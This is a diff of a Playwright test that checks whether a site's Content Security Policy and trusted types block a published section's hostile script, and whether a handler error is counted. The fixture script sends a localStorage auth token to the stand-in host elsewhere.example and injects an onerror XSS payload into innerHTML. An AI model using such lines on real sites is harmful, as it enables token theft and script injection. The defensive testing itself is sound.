@@ -5,17 +5,12 @@ import { fromApi } from '../support/site.ts'
 import { readPointer } from '../support/stored-build.ts'
 import { expect, test } from '../support/test.ts'
 
-test.use({ serviceWorkers: 'block' })
-
-const figuresOf = async (app: string, build: string) => {
-  const { verdicts } = await fromApi<BuildHealthList>('/builds/verdicts')
-  return verdicts.find(({ remote }) => remote === app)?.lastMonth?.find((figures) => figures.build === build)
-}
-/** The API sums up every fifteen seconds. */
-const soon = { timeout: 2 * waitTimeout, intervals: [500] }
-
-test('what a section does against the policy is blocked, and stored with its build', async ({ page, watch }) => {
+test('what a section does against the policy is blocked, what it throws in a handler changes nothing, and both count for its build', async ({
+  page,
+  watch
+}) => {
   watch.allow(/Content Security Policy/i, /TrustedHTML|TrustedTypePolicy|Policy .* disallowed/i, /elsewhere\.example/)
+  watch.allow(/panne d’un bouton/)
   const { id, undo } = await publishCopy({
     script: `
       new Image().src = 'https://elsewhere.example/?' + (localStorage.getItem('authToken') ?? 'none')
@@ -24,31 +19,25 @@ test('what a section does against the policy is blocked, and stored with its bui
         () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
         () => { document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>' }
       ]
-      self.blocked = tries.filter((attempt) => { try { attempt() } catch { return true } }).length`
+      self.blocked = tries.filter((attempt) => { try { attempt() } catch { return true } }).length
+      addEventListener('click', () => { throw new Error('panne d’un bouton') })`
   })
   try {
     await page.goto('/ventes')
     expect(await page.evaluate(() => Reflect.get(window, 'blocked'))).toBe(3)
-    await expect
-      .poll(async () => Object.keys((await figuresOf('ventes', id))?.violations ?? {}).sort(), soon)
-      .toEqual(['img-src', 'require-trusted-types-for', 'trusted-types'])
-  } finally {
-    await undo()
-  }
-})
-
-test('what a section throws in a handler counts, and the page stays with what was typed', async ({ page, watch }) => {
-  watch.allow(/panne d’un bouton/)
-  const { id, undo } = await publishCopy({
-    script: `addEventListener('click', () => { throw new Error('panne d’un bouton') })`
-  })
-  try {
-    await page.goto('/ventes')
     const search = page.getByRole('searchbox').or(page.getByRole('combobox')).first()
     await search.fill('Thiès')
     await search.click()
     await expect(search).toHaveValue('Thiès')
-    await expect.poll(async () => (await figuresOf('ventes', id))?.errors, soon).toBe(1)
+    const figures = async () => {
+      const { verdicts } = await fromApi<BuildHealthList>('/builds/verdicts')
+      const found = verdicts.find(({ remote }) => remote === 'ventes')?.lastMonth?.find(({ build }) => build === id)
+      return { errors: found?.errors, violations: Object.keys(found?.violations ?? {}).sort() }
+    }
+    // The API sums up every fifteen seconds.
+    await expect
+      .poll(figures, { timeout: 2 * waitTimeout, intervals: [500] })
+      .toEqual({ errors: 1, violations: ['img-src', 'require-trusted-types-for', 'trusted-types'] })
     expect((await page.context().cookies()).some(({ name }) => name === 'keur_aside')).toBe(false)
   } finally {
     await undo()
